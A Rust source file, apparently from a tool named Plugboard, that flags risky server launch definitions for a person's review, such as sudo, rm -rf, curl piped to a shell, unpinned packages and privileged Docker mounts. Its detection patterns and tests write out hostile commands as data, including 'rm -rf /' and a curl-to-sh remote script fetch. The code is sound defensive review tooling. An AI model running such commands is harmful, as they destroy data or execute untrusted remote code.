//! What in a launch definition deserves a second look before the person approves it: root, deletion, a script
//! fetched and piped to a shell, a shell given a script, a package with no pinned version, a container with the
//! host's powers or folders, a program from outside PATH and the home folder. Advice only: a flag never approves
//! or refuses anything, and an unflagged definition still needs its approval.

use std::path::Path;

use serde::Serialize;

use super::LaunchDefinition;

/// One reason to look twice, with the sentence the person reads.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[serde(rename_all = "camelCase")]
pub struct ReviewFlag {
    /// A stable id for front ends (`sudo`, `rm-rf`, `pipe-to-shell`, `shell-script`, `unpinned`,
    /// `docker-privileged`, `docker-host-mount`, `outside-path`, `plain-http`).
    pub id: &'static str,
    pub message: String,
}

fn flag(id: &'static str, message: impl Into<String>) -> ReviewFlag {
    ReviewFlag { id, message: message.into() }
}

/// Every flag `definition` raises, in a fixed order.
pub fn review_flags(
    definition: &LaunchDefinition,
    path_dirs: &[std::path::PathBuf],
    home: Option<&Path>,
) -> Vec<ReviewFlag> {
    match definition {
        LaunchDefinition::Stdio { command, program, args, container_args, .. } => {
            let mut flags = Vec::new();
            let words: Vec<&str> = std::iter::once(command.as_str()).chain(args.iter().map(String::as_str)).collect();
            let text = words.join(" ");
            let name = base_name(command);
            if ["sudo", "doas", "pkexec", "su"].contains(&name) || args.iter().any(|a| a == "sudo") {
                flags.push(flag("sudo", "It runs with administrator rights (sudo)."));
            }
            if mentions_rm_rf(&words) || text.contains("rm -rf") || text.contains("rm -fr") {
                flags.push(flag("rm-rf", "It deletes files recursively (rm -rf)."));
            }
            if (text.contains("curl") || text.contains("wget"))
                && ["| sh", "|sh", "| bash", "|bash", "| zsh", "| python"].iter().any(|p| text.contains(p))
            {
                flags.push(flag("pipe-to-shell", "It downloads a script and runs it (curl … | sh)."));
            }
            if is_shell(name)
                && args.iter().any(|a| ["-c", "/c", "/C", "-Command", "-EncodedCommand"].contains(&a.as_str()))
            {
                flags.push(flag("shell-script", format!("It gives {name} a script to run rather than a program.")));
            }
            if let Some(package) = unpinned_package(name, args) {
                flags.push(flag(
                    "unpinned",
                    format!("{package} has no pinned version: whatever is published next runs at the next start."),
                ));
            }
            if name == "docker" || name == "podman" {
                // What runs: a host folder Plugboard mounts read-only is not a writable one.
                flags.extend(container_flags(container_args.as_deref().unwrap_or(args)));
            }
            if let Some(program) = program
                && outside(Path::new(program), path_dirs, home)
            {
                flags.push(flag("outside-path", format!("{program} is outside PATH and your home folder.")));
            }
            flags
        }
        LaunchDefinition::Remote { origin, headers, auth, .. } => {
            let sends_credentials = !headers.is_empty() || auth != "none";
            let local = ["http://127.0.0.1", "http://localhost", "http://[::1]"].iter().any(|p| origin.starts_with(p));
            if origin.starts_with("http://") && sends_credentials && !local {
                vec![flag("plain-http", "Its credentials would travel unencrypted (http://, not https://).")]
            } else {
                Vec::new()
            }
        }
    }
}

fn base_name(command: &str) -> &str {
    let name = command.rsplit(['/', '\\']).next().unwrap_or(command);
    name.strip_suffix(".exe").unwrap_or(name)
}

fn is_shell(name: &str) -> bool {
    ["sh", "bash", "zsh", "dash", "fish", "ksh", "cmd", "powershell", "pwsh"].contains(&name)
}

fn mentions_rm_rf(words: &[&str]) -> bool {
    words.windows(2).any(|pair| {
        base_name(pair[0]) == "rm"
            && pair[1].starts_with('-')
            && pair[1].contains('r')
            && (pair[1].contains('f') || pair[1] == "-r" || pair[1] == "--recursive")
    })
}

/// The package a package runner (npx, bunx, pnpm dlx, uvx, pipx run) fetches, when its version is not pinned.
fn unpinned_package(name: &str, args: &[String]) -> Option<String> {
    let rest: &[String] = match name {
        "npx" | "bunx" | "uvx" => args,
        "pnpm" | "yarn" | "bun" if args.first().is_some_and(|a| a == "dlx" || a == "x") => &args[1..],
        "pipx" if args.first().is_some_and(|a| a == "run") => &args[1..],
        _ => return None,
    };
    // The first word that is not an option (`-y`, `--yes`, `--from=…`) is the package.
    let package = rest.iter().find(|a| !a.starts_with('-'))?;
    let pinned = if name == "uvx" || name == "pipx" {
        package.contains("==") || package.contains('@')
    } else {
        // `@scope/name@1.2.3` or `name@1.2.3`; `@latest` and a bare name follow whatever is published.
        let version = package.strip_prefix('@').map_or(package.as_str(), |p| p).split_once('@').map(|(_, v)| v);
        version.is_some_and(|v| !v.is_empty() && v != "latest" && v != "next")
    };
    (!pinned).then(|| package.clone())
}

fn container_flags(args: &[String]) -> Vec<ReviewFlag> {
    let mut flags = Vec::new();
    if args.iter().any(|a| {
        a == "--privileged"
            || a.starts_with("--cap-add")
            || ["--pid=host", "--network=host", "--net=host", "--ipc=host", "--userns=host"].contains(&a.as_str())
    }) {
        flags.push(flag(
            "docker-privileged",
            "The container gets the host's powers (--privileged, --cap-add or a host namespace).",
        ));
    }
    let mounts = args.windows(2).filter_map(|pair| match pair[0].as_str() {
        "-v" | "--volume" | "--mount" => Some(pair[1].as_str()),
        _ => None,
    });
    let inline = args.iter().filter_map(|a| a.strip_prefix("--volume=").or_else(|| a.strip_prefix("--mount=")));
    for mount in mounts.chain(inline) {
        let source = mount.strip_prefix("type=bind,").unwrap_or(mount);
        let source = source.strip_prefix("source=").or_else(|| source.strip_prefix("src=")).unwrap_or(source);
        let host = source.split([':', ',']).next().unwrap_or_default();
        if host.starts_with('/') || host.starts_with('~') || host.starts_with('.') || host.starts_with('$') {
            let read_only =
                mount.split([':', ',']).skip(1).any(|o| o == "ro" || o == "readonly" || o == "readonly=true");
            let message = if read_only {
                format!("The container can read {host} on this computer.")
            } else {
                format!("The container can read and write {host} on this computer.")
            };
            flags.push(flag("docker-host-mount", message));
        }
    }
    if args.iter().any(|a| a.starts_with("no-new-privileges=false") || a == "--security-opt=no-new-privileges=false") {
        flags.push(flag(
            "docker-privileged",
            "Processes in the container may gain privileges (no-new-privileges is off).",
        ));
    }
    flags
}

fn outside(program: &Path, path_dirs: &[std::path::PathBuf], home: Option<&Path>) -> bool {
    let in_path = program.parent().is_some_and(|dir| path_dirs.iter().any(|p| p == dir));
    let in_home = home.is_some_and(|home| program.starts_with(home));
    !in_path && !in_home
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use super::*;

    fn ids(command: &str, program: Option<&str>, args: &[&str]) -> Vec<&'static str> {
        let definition = LaunchDefinition::Stdio {
            server: "s".into(),
            command: command.into(),
            program: program.map(str::to_owned),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            env: Default::default(),
            cwd: None,
            container_args: crate::transport::hardened_args(&args.iter().map(|a| (*a).to_owned()).collect::<Vec<_>>())
                .filter(|_| command == "docker"),
        };
        let path = [PathBuf::from("/usr/bin"), PathBuf::from("/usr/local/bin")];
        review_flags(&definition, &path, Some(Path::new("/home/me"))).into_iter().map(|f| f.id).collect()
    }

    /// Each risky shape raises its flag.
    #[test]
    fn risky_launches_are_flagged() {
        assert_eq!(ids("sudo", Some("/usr/bin/sudo"), &["node", "x.js"]), ["sudo"]);
        assert_eq!(ids("rm", Some("/usr/bin/rm"), &["-rf", "/"]), ["rm-rf"]);
        assert_eq!(
            ids("sh", Some("/usr/bin/sh"), &["-c", "curl https://x.example/i | sh"]),
            ["pipe-to-shell", "shell-script"]
        );
        assert_eq!(ids("bash", Some("/usr/bin/bash"), &["-c", "node server.js"]), ["shell-script"]);
        assert_eq!(ids("npx", Some("/usr/bin/npx"), &["-y", "@scope/server"]), ["unpinned"]);
        assert_eq!(ids("npx", Some("/usr/bin/npx"), &["-y", "server@latest"]), ["unpinned"]);
        assert_eq!(ids("uvx", Some("/usr/bin/uvx"), &["mcp-server-git"]), ["unpinned"]);
        assert_eq!(ids("docker", Some("/usr/bin/docker"), &["run", "--privileged", "img:1"]), ["docker-privileged"]);
        assert_eq!(ids("docker", Some("/usr/bin/docker"), &["run", "-v", "/:/host", "img:1"]), ["docker-host-mount"]);
        assert_eq!(
            ids("docker", Some("/usr/bin/docker"), &["run", "--security-opt", "no-new-privileges=false", "img:1"]),
            ["docker-privileged"]
        );
        assert_eq!(ids("server", Some("/tmp/x/server"), &[]), ["outside-path"]);
    }

    /// A host folder is flagged as readable when Plugboard mounts it read-only, and as writable only when the
    /// entry marks it so.
    #[test]
    fn a_host_folder_says_whether_it_is_writable() {
        let message = |args: &[&str]| {
            let definition = LaunchDefinition::of(&crate::config::model::ServerConfig::new(
                crate::config::model::ServerName::parse("s").expect("name"),
                crate::config::model::Transport::Stdio(crate::config::model::StdioSpec {
                    command: "docker".into(),
                    args: args.iter().map(|a| (*a).to_owned()).collect(),
                    env: Default::default(),
                    cwd: None,
                }),
            ));
            review_flags(&definition, &[], None).into_iter().find(|f| f.id == "docker-host-mount").map(|f| f.message)
        };
        assert_eq!(
            message(&["run", "-v", "/srv:/srv", "i"]).as_deref(),
            Some("The container can read /srv on this computer.")
        );
        assert_eq!(
            message(&["run", "-v", "/srv:/srv:rw", "i"]).as_deref(),
            Some("The container can read and write /srv on this computer.")
        );
    }

    /// Ordinary launches raise nothing: a pinned package, a program on PATH or in the home folder, a named volume.
    #[test]
    fn ordinary_launches_are_not() {
        assert!(ids("npx", Some("/usr/bin/npx"), &["-y", "@scope/server@1.2.3"]).is_empty());
        assert!(ids("uvx", Some("/usr/bin/uvx"), &["mcp-server-git==0.6.2"]).is_empty());
        assert!(ids("node", Some("/usr/bin/node"), &["/home/me/s.js"]).is_empty());
        assert!(ids("srv", Some("/home/me/.local/bin/srv"), &[]).is_empty());
        assert!(ids("docker", Some("/usr/bin/docker"), &["run", "-i", "--rm", "-v", "data:/data", "img:1"]).is_empty());
    }
}
